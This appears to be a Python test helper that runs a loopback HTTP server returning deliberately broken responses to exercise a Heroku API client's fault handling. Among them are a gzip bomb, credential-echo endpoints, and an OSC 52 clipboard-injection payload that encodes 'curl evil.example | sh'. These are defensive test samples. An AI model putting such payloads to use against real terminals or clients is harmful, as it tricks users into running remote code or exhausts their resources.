"""A loopback HTTP/1.1 server that misbehaves on purpose, for the fault tests.

It runs raw asyncio in a background thread (its own event loop), so it serves
synchronous tests, async tests, subprocesses and the front ends alike. Two
listeners: the main one on ``127.0.0.1`` and an "other host" on ``127.0.0.2``
(``localhost`` when that address cannot be bound) that cross-host redirects point
at. Every request either listener receives is recorded, headers and body included.

The first path segment that names a fault selects it, so a fault can be put in
front of any API path by making it the base URL::

    http://127.0.0.1:PORT/html-500            -> 500 with an HTML body
    http://127.0.0.1:PORT/html-500/apps       -> the same (base URL .../html-500)
    http://127.0.0.1:PORT/apps                -> the default answer (``default_fault``)

Every stall is bounded (``max_stall`` seconds) and everything stops with the server.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import itertools
import json
import os
import socket
import struct
import threading
import time
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

__all__ = [
    "BIG_SIZE",
    "BOMB_SIZE",
    "DEEP_JSON",
    "FAULTS",
    "HTML_ERROR_PAGE",
    "OSC52",
    "TWO_FACTOR_MESSAGE",
    "FaultServer",
    "Recorded",
    "closed_port_url",
    "fault_server",
]

BIG_SIZE = 50 * 1024 * 1024
CHUNK = 64 * 1024
#: What the gzip bomb inflates to (its compressed size is about 1 MB).
BOMB_SIZE = 1024 * 1024 * 1024
#: A terminal's clipboard write (OSC 52) of a command a person might paste and run.
OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
#: ANSI sequences: a colour, clear screen, a window title, cursor home.
ESCAPES = "\x1b[31mred\x1b[0m \x1b[2J\x1b]0;owned\x07\x1b[H"
DEEP_JSON = b"[" * 3000 + b"]" * 3000

#: Every fault the server can produce, by path segment.
FAULTS: dict[str, str] = {
    "ok": "200 with a small JSON object",
    "reset": "headers promise 1 MB, 1 KB of body arrives, then the connection is reset (RST)",
    "hang": "the request is read but no headers ever arrive",
    "trickle": "200 headers, then a body of one byte every interval, never finishing",
    "html-500": "500 with an HTML error page",
    "html-503": "503 with an HTML error page",
    "invalid-json": "200 application/json whose body is cut-off JSON",
    "invalid-utf8": "200 application/json whose body is not valid UTF-8",
    "empty": "200 application/json with an empty body",
    "big": "200 with a 50 MB JSON body (Content-Length, streamed in 64 KB chunks)",
    "big-chunked": "200 with a 50 MB JSON body (chunked, no Content-Length)",
    "redirect": "302 to the other host (127.0.0.2 or localhost)",
    "redirect-307": "307 to the other host",
    "redirect-same": "302 to /landing on the same host",
    "landing": "200 JSON {'landed': true}: where redirects land",
    "schema": "200 with a schema document and an ETag (304 on If-None-Match)",
    "rate-limit": "429 rate_limit with Retry-After (seconds from ?after=, default 1)",
    "rate-limit-no-retry": "429 rate_limit without Retry-After",
    "rate-limit-once": "429 with Retry-After: 0 the first time, then 200",
    "unauthorized": "401 unauthorized",
    "two-factor": "403 two_factor unless Heroku-Two-Factor-Code is sent, then 200",
    "slow": "200 after ?delay= seconds (default 0.5)",
    "echo": "200 JSON echoing the request's method, target, headers and body (a leak test)",
    "echo-error": "400 whose Heroku error message quotes the request's Authorization header",
    "osc52-headers": "200 JSON whose Request-Id and Warning carry an OSC 52 clipboard write",
    "error-escapes": "500 Heroku error whose message and id carry ESC sequences and OSC 52",
    "text-escapes": "200 text/plain body full of ESC sequences (colour, clear, title, OSC 52)",
    "gzip-bomb": "200 gzip, about 1 MB on the wire (Content-Length), inflating to 1 GiB; "
                 "generated as it is sent",
    "gzip-trickle": "200 gzip body, chunked, about 1 KB a second (?interval=) for ?seconds= "
                    "(default 40, bounded by max_stall)",
    "deep-json": "200 application/json nested 3,000 levels deep (6 KB)",
    "bad-ratelimit": "200 JSON with RateLimit-Remaining: \u00b2 (a digit to str.isdigit, "
                     "not to int; ?value= picks another)",
    "bad-next-range": "206 JSON list with Next-Range: id ]a..; max=\u00b2",
    "bad-headers": "200 JSON with a 30-digit RateLimit-Remaining, Retry-After: garbage, a "
                   "garbage Content-Range, an ETag with ESC in it and two Request-Ids",
    "echo-token": "200 text body echoing the request's credential split across two chunks "
                  "and with a line break inside it, and in an X-Echo header",
}

HTML_ERROR_PAGE = (
    b"<!DOCTYPE html>\n<html><head><title>Application Error</title></head>"
    b"<body><h1>Application Error</h1><p>An error occurred in the application and your "
    b"page could not be served. Please try again in a few moments.</p></body></html>\n"
)
TWO_FACTOR_MESSAGE = "A second authentication factor is required for this request."
RATE_LIMIT_MESSAGE = (
    "Your account reached the API rate limit\n"
    "Please wait a few minutes before making new requests"
)
_BUNDLED_SCHEMA = (
    Path(__file__).resolve().parents[2] / "heroku_explorer" / "schema" / "bundled"
    / "resources-2013.json"
)


@dataclass(frozen=True, slots=True)
class Recorded:
    """One request as the server received it."""

    listener: str
    """``main`` or ``other``."""
    connection: int
    method: str
    target: str
    headers: tuple[tuple[str, str], ...]
    body: bytes
    at: float

    @property
    def path(self) -> str:
        return urlsplit(self.target).path

    @property
    def query(self) -> dict[str, list[str]]:
        return parse_qs(urlsplit(self.target).query)

    def header(self, name: str) -> str | None:
        folded = name.lower()
        for key, value in self.headers:
            if key.lower() == folded:
                return value
        return None

    def has_header(self, name: str) -> bool:
        return self.header(name) is not None


@dataclass(slots=True)
class _Request:
    method: str
    target: str
    headers: list[tuple[str, str]]
    body: bytes
    listener: str

    def header(self, name: str) -> str | None:
        folded = name.lower()
        for key, value in self.headers:
            if key.lower() == folded:
                return value
        return None

    @property
    def segments(self) -> list[str]:
        return [s for s in urlsplit(self.target).path.split("/") if s]

    def qs(self, key: str, default: str) -> str:
        return parse_qs(urlsplit(self.target).query).get(key, [default])[0]


def closed_port_url(host: str = "127.0.0.1") -> str:
    """A URL on a port nothing listens on (connection refused)."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.bind((host, 0))
        port = sock.getsockname()[1]
    return f"http://{host}:{port}"


def _can_bind(host: str) -> bool:
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
            sock.bind((host, 0))
    except OSError:
        return False
    return True


class FaultServer:
    """Start with ``with FaultServer() as server:`` (or :meth:`start` / :meth:`stop`)."""

    def __init__(
        self,
        *,
        default_fault: str = "ok",
        big_size: int = BIG_SIZE,
        trickle_interval: float = 0.05,
        max_stall: float = 30.0,
    ) -> None:
        self.default_fault = default_fault
        self.big_size = big_size
        self.trickle_interval = trickle_interval
        self.max_stall = max_stall
        self.schema_body = _BUNDLED_SCHEMA.read_bytes() if _BUNDLED_SCHEMA.exists() else b"{}"
        self.host = "127.0.0.1"
        self.other_host = "127.0.0.2" if _can_bind("127.0.0.2") else "localhost"
        self.port = 0
        self.other_port = 0
        self._lock = threading.Lock()
        self._requests: list[Recorded] = []
        self._connections = {"main": 0, "other": 0}
        self._conn_ids = itertools.count(1)
        self._request_ids = itertools.count(1)
        self._once_done: set[str] = set()
        self._loop: asyncio.AbstractEventLoop | None = None
        self._thread: threading.Thread | None = None
        self._servers: list[asyncio.base_events.Server] = []
        self._tasks: set[asyncio.Task[None]] = set()
        self._ready = threading.Event()
        self._error: BaseException | None = None

    # -- lifecycle -------------------------------------------------------------

    def __enter__(self) -> FaultServer:
        self.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop()

    def start(self) -> None:
        self._thread = threading.Thread(target=self._run, name="fault-server", daemon=True)
        self._thread.start()
        if not self._ready.wait(10):
            raise RuntimeError("the fault server did not start within 10 s")
        if self._error is not None:
            raise RuntimeError(f"the fault server did not start: {self._error}")

    def stop(self) -> None:
        loop = self._loop
        if loop is None or self._thread is None:
            return
        with contextlib.suppress(RuntimeError):
            loop.call_soon_threadsafe(self._shutdown)
        self._thread.join(10)
        self._loop = None

    def _run(self) -> None:
        loop = asyncio.new_event_loop()
        self._loop = loop
        try:
            loop.run_until_complete(self._open())
        except BaseException as exc:
            self._error = exc
            self._ready.set()
            loop.close()
            return
        self._ready.set()
        try:
            loop.run_forever()
        finally:
            loop.run_until_complete(self._drain_tasks())
            loop.close()

    async def _open(self) -> None:
        main = await asyncio.start_server(
            lambda r, w: self._serve(r, w, "main"), self.host, 0, limit=CHUNK
        )
        other = await asyncio.start_server(
            lambda r, w: self._serve(r, w, "other"), self.other_host, 0, limit=CHUNK
        )
        self._servers = [main, other]
        self.port = main.sockets[0].getsockname()[1]
        self.other_port = other.sockets[0].getsockname()[1]

    def _shutdown(self) -> None:
        for server in self._servers:
            server.close()
        for task in list(self._tasks):
            task.cancel()
        assert self._loop is not None
        self._loop.stop()

    async def _drain_tasks(self) -> None:
        tasks = list(self._tasks)
        for task in tasks:
            task.cancel()
        if tasks:
            await asyncio.wait(tasks, timeout=5)

    # -- what tests read ---------------------------------------------------------

    @property
    def url(self) -> str:
        return f"http://{self.host}:{self.port}"

    @property
    def other_url(self) -> str:
        return f"http://{self.other_host}:{self.other_port}"

    def url_for(self, fault: str, path: str = "", *, other: bool = False) -> str:
        """``http://127.0.0.1:PORT/<fault><path>``."""
        if fault not in FAULTS:
            raise KeyError(f"unknown fault {fault!r}")
        return f"{self.other_url if other else self.url}/{fault}{path}"

    @property
    def requests(self) -> list[Recorded]:
        """Every request received so far, in order, on both listeners."""
        with self._lock:
            return list(self._requests)

    def requests_on(self, listener: str) -> list[Recorded]:
        return [r for r in self.requests if r.listener == listener]

    def connections(self, listener: str = "main") -> int:
        with self._lock:
            return self._connections[listener]

    def clear(self) -> None:
        with self._lock:
            self._requests.clear()
            self._connections = {"main": 0, "other": 0}
            self._once_done.clear()

    # -- the protocol ------------------------------------------------------------

    async def _serve(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, listener: str
    ) -> None:
        task = asyncio.current_task()
        assert task is not None
        self._tasks.add(task)  # type: ignore[arg-type]
        with self._lock:
            self._connections[listener] += 1
        conn = next(self._conn_ids)
        try:
            for _ in range(10_000):
                request = await self._read_request(reader, writer, listener)
                if request is None:
                    break
                with self._lock:
                    self._requests.append(
                        Recorded(listener, conn, request.method, request.target,
                                 tuple(request.headers), request.body, time.monotonic())
                    )
                keep_alive = await self._respond(request, reader, writer)
                if not keep_alive or (request.header("connection") or "").lower() == "close":
                    break
        except (ConnectionError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            pass
        except asyncio.CancelledError:
            pass  # the server is stopping: end quietly (asyncio logs a cancelled handler)
        finally:
            self._tasks.discard(task)  # type: ignore[arg-type]
            with contextlib.suppress(Exception):
                writer.close()

    async def _read_request(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, listener: str
    ) -> _Request | None:
        try:
            head = await reader.readuntil(b"\r\n\r\n")
        except asyncio.IncompleteReadError:
            return None
        except asyncio.LimitOverrunError:
            await self._send(writer, 431, [], b"")
            return None
        lines = head.decode("latin-1").split("\r\n")
        try:
            method, target, _version = lines[0].split(" ", 2)
        except ValueError:
            await self._send(writer, 400, [], b"")
            return None
        headers: list[tuple[str, str]] = []
        for line in lines[1:]:
            if not line:
                continue
            name, _, value = line.partition(":")
            headers.append((name.strip(), value.strip()))
        request = _Request(method, target, headers, b"", listener)
        length = request.header("content-length")
        if length is not None and length.isdigit():
            size = int(length)
            if size > 10 * 1024 * 1024:
                await self._send(writer, 413, [], b"")
                return None
            request.body = await reader.readexactly(size)
        elif (request.header("transfer-encoding") or "").lower() == "chunked":
            parts: list[bytes] = []
            total = 0
            while True:
                size_line = await reader.readuntil(b"\r\n")
                size = int(size_line.split(b";")[0].strip() or b"0", 16)
                if size == 0:
                    await reader.readuntil(b"\r\n")
                    break
                total += size
                if total > 10 * 1024 * 1024:
                    return None
                parts.append(await reader.readexactly(size))
                await reader.readexactly(2)
            request.body = b"".join(parts)
        return request

    @staticmethod
    def _head(status: int, headers: list[tuple[str, str]]) -> bytes:
        """The status line and headers, each value written exactly as given."""
        from http import HTTPStatus

        try:
            phrase = HTTPStatus(status).phrase
        except ValueError:
            phrase = "Unknown"
        lines = [f"HTTP/1.1 {status} {phrase}"]
        lines += [f"{k}: {v}" for k, v in headers]
        return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")

    async def _send(
        self,
        writer: asyncio.StreamWriter,
        status: int,
        headers: list[tuple[str, str]],
        body: bytes,
    ) -> bool:
        base = [
            ("Content-Length", str(len(body))),
            ("Request-Id", f"fault-{next(self._request_ids)}"),
            ("Connection", "keep-alive"),
        ]
        writer.write(self._head(status, base + headers) + body)
        await writer.drain()
        return True

    async def _json(
        self,
        writer: asyncio.StreamWriter,
        status: int,
        data: object,
        headers: list[tuple[str, str]] | None = None,
    ) -> bool:
        body = json.dumps(data).encode("utf-8")
        return await self._send(
            writer, status, [("Content-Type", "application/json"), *(headers or [])], body
        )

    async def _wait_for_close(self, reader: asyncio.StreamReader) -> None:
        """Hold the connection open until the client goes away (or ``max_stall``)."""
        with contextlib.suppress(asyncio.TimeoutError, ConnectionError):
            await asyncio.wait_for(reader.read(), self.max_stall)

    def _fault_of(self, request: _Request) -> str:
        for segment in request.segments:
            if segment in FAULTS:
                return segment
        return self.default_fault

    async def _respond(
        self, request: _Request, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> bool:
        fault = self._fault_of(request)
        handler = getattr(self, "_f_" + fault.replace("-", "_"))
        result: bool = await handler(request, reader, writer)
        return result

    # -- the faults ----------------------------------------------------------------

    async def _f_ok(self, request: _Request, reader: object, writer: asyncio.StreamWriter) -> bool:
        return await self._json(writer, 200, {"ok": True, "path": urlsplit(request.target).path})

    async def _f_landing(
        self, request: _Request, reader: object, writer: asyncio.StreamWriter
    ) -> bool:
        return await self._json(writer, 200, {"landed": True, "listener": request.listener})

    async def _f_slow(
        self, request: _Request, reader: object, writer: asyncio.StreamWriter
    ) -> bool:
        await asyncio.sleep(min(float(request.qs("delay", "0.5")), self.max_stall))
        return await self._f_ok(request, reader, writer)

    async def _f_reset(
        self, request: _Request, reader: object, writer: asyncio.StreamWriter
    ) -> bool:
        writer.write(self._head(200, [("Content-Type", "application/json"),
                                      ("Content-Length", str(1024 * 1024))]))
        writer.write(b"[" + b'"x",' * 256)
        await writer.drain()
        await asyncio.sleep(0.05)
        sock = writer.get_extra_info("socket")
        if sock is not None:
            with contextlib.suppress(OSError):
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        writer.transport.abort()
        return False

    async def _f_hang(
        self, request: _Request, reader: asyncio.StreamReader, writer: object
    ) -> bool:
        await self._wait_for_close(reader)
        return False

    async def _f_trickle(
        self, request: _Request, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> bool:
        writer.write(self._head(200, [("Content-Type", "application/json"),
                                      ("Transfer-Encoding", "chunked")]))
        writer.write(b"1\r\n[\r\n")
        await writer.drain()
        deadline = time.monotonic() + self.max_stall
        while time.monotonic() < deadline:
            await asyncio.sleep(self.trickle_interval)
            if writer.is_closing() or reader.at_eof():
                break
            writer.write(b"1\r\n \r\n")
            await writer.drain()
        return False

    async def _html(self, writer: asyncio.StreamWriter, status: int) -> bool:
        return await self._send(
            writer, status, [("Content-Type", "text/html; charset=utf-8")], HTML_ERROR_PAGE
        )

    async def _f_html_500(self, request: _Request, reader: object, writer: asyncio.StreamWriter
                          ) -> bool:
        return await self._html(writer, 500)

    async def _f_html_503(self, request: _Request, reader: object, writer: asyncio.StreamWriter
                          ) -> bool:
        return await self._html(writer, 503)

    async def _f_invalid_json(
        self, request: _Request, reader: object, writer: asyncio.StreamWriter
    ) -> bool:
        body = b'{"id": "01234567-89ab-cdef-0123-456789abcdef", "name": "exam'
        return await self._send(writer, 200, [("Content-Type", "application/json")], body)

    async def _f_invalid_utf8(
        self, request: _Request, reader: object, writer: asyncio.StreamWriter
    ) -> bool:
        body = b'{"name": "caf\xe9 \xff\xfe\xfd", "stack": "\xc3\x28"}'
        return await self._send(
            writer, 200, [("Content-Type", "application/json; charset=utf-8")], body
        )

    async def _f_empty(
        self, request: _Request, reader: object, writer: asyncio.StreamWriter
    ) -> bool:
        return await self._send(writer, 200, [("Content-Type", "application/json")], b"")

    def _big_chunks(self) -> Iterator[bytes]:
        """A valid JSON array of exactly ``big_size`` bytes, in CHUNK-sized pieces."""
        size = self.big_size
        item = b'"' + b"x" * 1022 + b'",'  # 1 KiB per element
        body_room = size - 2  # "[" ... "]"
        yield b"["
        sent = 0
        block = item * (CHUNK // len(item))
        while body_room - sent > len(block):
            yield block
            sent += len(block)
        rest = body_room - sent
        # the last element closes the array: pad with one string of the remaining size
        if rest >= 2:
            yield b'"' + b"y" * (rest - 2) + b'"'
        else:
            yield b"0" * rest
        yield b"]"

    async def _f_big(self, request: _Request, reader: object, writer: asyncio.StreamWriter
                     ) -> bool:
        writer.write(self._head(200, [("Content-Type", "application/json"),
                                      ("Content-Length", str(self.big_size)),
                                      ("Request-Id", "fault-big")]))
        for chunk in self._big_chunks():
            writer.write(chunk)
            await writer.drain()
        return True

    async def _f_big_chunked(
        self, request: _Request, reader: object, writer: asyncio.StreamWriter
    ) -> bool:
        writer.write(self._head(200, [("Content-Type", "application/json"),
                                      ("Transfer-Encoding", "chunked"),
                                      ("Request-Id", "fault-big-chunked")]))
        for chunk in self._big_chunks():
            writer.write(f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n")
            await writer.drain()
        writer.write(b"0\r\n\r\n")
        await writer.drain()
        return True

    async def _redirect(self, writer: asyncio.StreamWriter, status: int, location: str) -> bool:
        return await self._json(writer, status, {"id": "moved", "message": "moved"},
                                [("Location", location)])

    async def _f_redirect(
        self, request: _Request, reader: object, writer: asyncio.StreamWriter
    ) -> bool:
        return await self._redirect(writer, 302, f"{self.other_url}/landing")

    async def _f_redirect_307(
        self, request: _Request, reader: object, writer: asyncio.StreamWriter
    ) -> bool:
        return await self._redirect(writer, 307, f"{self.other_url}/landing")

    async def _f_redirect_same(
        self, request: _Request, reader: object, writer: asyncio.StreamWriter
    ) -> bool:
        return await self._redirect(writer, 302, "/landing")

    async def _f_schema(
        self, request: _Request, reader: object, writer: asyncio.StreamWriter
    ) -> bool:
        from hashlib import blake2b

        etag = '"' + blake2b(self.schema_body, digest_size=8).hexdigest() + '"'
        if request.header("if-none-match") == etag:
            return await self._send(writer, 304, [("ETag", etag)], b"")
        return await self._send(
            writer, 200, [("Content-Type", "application/schema+json"), ("ETag", etag)],
            self.schema_body,
        )

    async def _rate_limited(self, writer: asyncio.StreamWriter, retry_after: str | None) -> bool:
        headers = [("RateLimit-Remaining", "0")]
        if retry_after is not None:
            headers.append(("Retry-After", retry_after))
        return await self._json(
            writer, 429, {"id": "rate_limit", "message": RATE_LIMIT_MESSAGE}, headers
        )

    async def _f_rate_limit(
        self, request: _Request, reader: object, writer: asyncio.StreamWriter
    ) -> bool:
        return await self._rate_limited(writer, request.qs("after", "1"))

    async def _f_rate_limit_no_retry(
        self, request: _Request, reader: object, writer: asyncio.StreamWriter
    ) -> bool:
        return await self._rate_limited(writer, None)

    async def _f_rate_limit_once(
        self, request: _Request, reader: object, writer: asyncio.StreamWriter
    ) -> bool:
        with self._lock:
            first = "rate-limit-once" not in self._once_done
            self._once_done.add("rate-limit-once")
        if first:
            return await self._rate_limited(writer, "0")
        return await self._json(writer, 200, {"ok": True, "after": "rate-limit"},
                                [("RateLimit-Remaining", "4499")])

    async def _f_unauthorized(
        self, request: _Request, reader: object, writer: asyncio.StreamWriter
    ) -> bool:
        return await self._json(
            writer, 401, {"id": "unauthorized", "message": "Invalid credentials provided."}
        )

    def _echo(self, request: _Request) -> dict[str, object]:
        return {"method": request.method, "target": request.target,
                "headers": dict(request.headers),
                "body": request.body.decode("utf-8", "replace")}

    async def _f_echo(
        self, request: _Request, reader: object, writer: asyncio.StreamWriter
    ) -> bool:
        return await self._json(writer, 200, self._echo(request))

    async def _f_echo_error(
        self, request: _Request, reader: object, writer: asyncio.StreamWriter
    ) -> bool:
        auth = request.header("Authorization") or "(none)"
        return await self._json(writer, 400, {"id": "bad_request",
                                              "message": f"Bad header Authorization: {auth}"})

    async def _f_two_factor(
        self, request: _Request, reader: object, writer: asyncio.StreamWriter
    ) -> bool:
        code = request.header("Heroku-Two-Factor-Code")
        if code:
            return await self._json(writer, 200, {"ok": True, "two_factor": "accepted"})
        return await self._json(
            writer, 403,
            {"id": "two_factor", "message": TWO_FACTOR_MESSAGE,
             "url": "https://devcenter.heroku.com/articles/two-factor-authentication"},
        )

    # -- hostile answers -----------------------------------------------------------------

    async def _raw(self, writer: asyncio.StreamWriter, status: int,
                   headers: list[tuple[str, str]], body: bytes) -> bool:
        """An answer with exactly these headers (no Request-Id of the server's own)."""
        writer.write(self._head(status, [("Content-Length", str(len(body))),
                                         ("Connection", "keep-alive"), *headers]) + body)
        await writer.drain()
        return True

    async def _f_osc52_headers(
        self, request: _Request, reader: object, writer: asyncio.StreamWriter
    ) -> bool:
        body = json.dumps({"ok": True}).encode()
        return await self._raw(writer, 200, [
            ("Content-Type", "application/json"), ("Request-Id", f"req-{OSC52}-1"),
            ("Warning", f'199 - "deprecated {OSC52}"'),
        ], body)

    async def _f_error_escapes(
        self, request: _Request, reader: object, writer: asyncio.StreamWriter
    ) -> bool:
        return await self._json(writer, 500, {
            "id": f"internal_server_error{ESCAPES[:9]}",
            "message": f"Name is invalid {ESCAPES} {OSC52}\nsecond line",
        })

    async def _f_text_escapes(
        self, request: _Request, reader: object, writer: asyncio.StreamWriter
    ) -> bool:
        body = f"plain text {ESCAPES}\n{OSC52}\r\nthe end\n".encode()
        return await self._send(writer, 200, [("Content-Type", "text/plain; charset=utf-8")],
                                body)

    _BOMB: tuple[bytes, bytes, bytes, int] | None = None

    @classmethod
    def _bomb_parts(cls) -> tuple[bytes, bytes, bytes, int]:
        """Gzip header + first block, a repeatable 1 MiB-of-zeros block, the end
        (empty final block), and the blocks' count. Full flushes make every block
        after the first the same bytes, so the stream is sent without being made."""
        if cls._BOMB is None:
            block = b"\0" * (1 << 20)
            deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
            first = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
            again = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
            header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
            cls._BOMB = (header + first, again, deflate.flush(), BOMB_SIZE >> 20)
        return cls._BOMB

    @staticmethod
    def _zeros_crc(size: int) -> int:
        crc, block = 0, b"\0" * (1 << 20)
        for _ in range(size >> 20):
            crc = zlib.crc32(block, crc)
        return crc

    async def _f_gzip_bomb(
        self, request: _Request, reader: object, writer: asyncio.StreamWriter
    ) -> bool:
        first, again, end, blocks = self._bomb_parts()
        length = len(first) + len(again) * (blocks - 1) + len(end) + 8
        writer.write(self._head(200, [("Content-Type", "application/json"),
                                      ("Content-Encoding", "gzip"),
                                      ("Content-Length", str(length)),
                                      ("Request-Id", "fault-gzip-bomb")]))
        writer.write(first)
        for _ in range(blocks - 1):
            writer.write(again)
            await writer.drain()
        crc = await asyncio.to_thread(self._zeros_crc, BOMB_SIZE)
        writer.write(end + struct.pack("<II", crc, BOMB_SIZE & 0xFFFFFFFF))
        await writer.drain()
        return True

    async def _f_gzip_trickle(
        self, request: _Request, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> bool:
        interval = float(request.qs("interval", "1"))
        seconds = min(float(request.qs("seconds", "40")), self.max_stall)
        writer.write(self._head(200, [("Content-Type", "application/json"),
                                      ("Content-Encoding", "gzip"),
                                      ("Transfer-Encoding", "chunked")]))
        gz = zlib.compressobj(6, zlib.DEFLATED, zlib.MAX_WBITS | 16)
        deadline = time.monotonic() + seconds
        first = True
        while time.monotonic() < deadline:
            text = (b"[" if first else b",") + json.dumps(
                base64.b64encode(os.urandom(700)).decode()).encode()
            first = False
            data = gz.compress(text) + gz.flush(zlib.Z_SYNC_FLUSH)
            writer.write(f"{len(data):x}\r\n".encode() + data + b"\r\n")
            await writer.drain()
            await asyncio.sleep(interval)
            if writer.is_closing() or reader.at_eof():
                return False
        data = gz.compress(b"]") + gz.flush()
        writer.write(f"{len(data):x}\r\n".encode() + data + b"\r\n0\r\n\r\n")
        await writer.drain()
        return True

    async def _f_deep_json(
        self, request: _Request, reader: object, writer: asyncio.StreamWriter
    ) -> bool:
        return await self._send(writer, 200, [("Content-Type", "application/json")], DEEP_JSON)

    async def _f_bad_ratelimit(
        self, request: _Request, reader: object, writer: asyncio.StreamWriter
    ) -> bool:
        value = request.qs("value", "\u00b2")
        with contextlib.suppress(UnicodeEncodeError):
            value.encode("latin-1")
            return await self._json(writer, 200, {"ok": True}, [("RateLimit-Remaining", value)])
        # not latin-1: its UTF-8 bytes go on the wire
        wire = value.encode("utf-8").decode("latin-1")
        return await self._json(writer, 200, {"ok": True}, [("RateLimit-Remaining", wire)])

    async def _f_bad_next_range(
        self, request: _Request, reader: object, writer: asyncio.StreamWriter
    ) -> bool:
        return await self._json(writer, 206, [{"id": "a", "name": "first"}], [
            ("Content-Range", "id a..a; max=1"), ("Accept-Ranges", "id, name"),
            ("Next-Range", "id ]a..; max=\u00b2"),
        ])

    async def _f_bad_headers(
        self, request: _Request, reader: object, writer: asyncio.StreamWriter
    ) -> bool:
        return await self._json(writer, 200, {"ok": True}, [
            ("RateLimit-Remaining", "9" * 30), ("Retry-After", "garbage"),
            ("Content-Range", "]]] bytes */*"), ("ETag", '"e\x1b[2J"'),
            ("Request-Id", "fault-second-id"),
        ])

    async def _f_echo_token(
        self, request: _Request, reader: object, writer: asyncio.StreamWriter
    ) -> bool:
        auth = request.header("Authorization") or "none none"
        secret = auth.partition(" ")[2] or auth
        half = len(secret) // 2
        writer.write(self._head(200, [("Content-Type", "text/plain"),
                                      ("Transfer-Encoding", "chunked"),
                                      ("X-Echo", auth)]))
        parts = [f"you sent {secret[:half]}", f"{secret[half:]}\n",
                 f"wrapped: {secret[:half]}\n{secret[half:]}\r\n"]
        for part in parts:
            data = part.encode("latin-1")
            writer.write(f"{len(data):x}\r\n".encode() + data + b"\r\n")
            await writer.drain()
            await asyncio.sleep(0.02)
        writer.write(b"0\r\n\r\n")
        await writer.drain()
        return True


def fault_server() -> Iterator[FaultServer]:
    """The body of a pytest fixture: ``yield from fault_server()``."""
    server = FaultServer()
    server.start()
    try:
        yield server
    finally:
        server.stop()
